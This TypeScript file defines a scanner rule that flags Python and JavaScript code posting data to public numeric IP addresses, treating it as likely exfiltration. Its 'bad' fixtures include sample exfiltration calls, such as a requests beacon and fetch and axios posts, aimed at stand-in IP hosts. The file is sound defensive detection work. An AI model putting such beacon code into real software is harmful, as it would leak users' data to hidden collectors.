import { all, any, argument, call, constant, given, matches, not, says } from "../match.ts";
import { defineRule } from "../rule.ts";
import { NUMBERED_HOST } from "../vocabulary/hosts.ts";

const POSTS = [
  ...[
    "requests",
    "requests.Session()",
    "requests.session()",
    "httpx",
    "httpx.Client()",
    "urllib3.PoolManager()",
  ].flatMap((client) => [`${client}.post`, `${client}.put`]),
  ...["axios", "got", "superagent", "needle", "ky"].flatMap((client) => [`js.${client}.post`, `js.${client}.put`]),
];

export default defineRule({
  id: "data-posted-to-numbered-host",
  category: "data_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript"],
  title: "data is posted to a public address that is written as a number",
  why: "Services have names and certificates; whoever collects in secret has a number.",
  fix: "Use the host name of the service, over https.",
  references: ["ATT&CK T1041", "ATT&CK T1071.001"],
  match: [
    call({
      of: POSTS,
      where: all(
        argument([0, "url"], matches(NUMBERED_HOST)),
        any(
          all(argument([1, "data"], given), not(argument([1, "data"], constant))),
          all(argument("json", given), not(argument("json", constant))),
          argument("files", given),
          argument("content", given),
        ),
      ),
    }),
    call({
      of: ["urllib.request.urlopen", "urllib.request.Request"],
      where: all(argument([0, "url"], matches(NUMBERED_HOST)), argument([1, "data"], given)),
    }),
    call({
      of: ["js.fetch"],
      where: all(
        argument(0, matches(NUMBERED_HOST)),
        argument("method", says(/^(post|put)$/i)),
        argument("body", given),
      ),
    }),
    call({ of: ["js.navigator.sendBeacon"], where: argument(0, matches(NUMBERED_HOST)) }),
  ],
  bad: [
    'import requests\ndef beacon(data):\n    requests.post("http://203.0.113.9/c", json=data)',
    'import urllib.request\nurllib.request.urlopen("http://203.0.113.9/c", body)',
    { "skill.js": 'fetch("http://198.51.100.4/c", { method: "POST", body: data });' },
    { "skill.js": 'const axios = require("axios");\naxios.post("http://198.51.100.4:8080/c", payload);' },
  ],
  good: [
    'import requests\nrequests.get("http://203.0.113.9/c")',
    'import requests\nrequests.post("http://192.168.1.4/c", json=data)',
    'import requests\nrequests.post("https://api.example.com/c", json=data)',
    { "skill.js": 'fetch("http://198.51.100.4/c");' },
    { "skill.js": 'fetch("http://127.0.0.1:3000/c", { method: "POST", body: data });' },
  ],
});
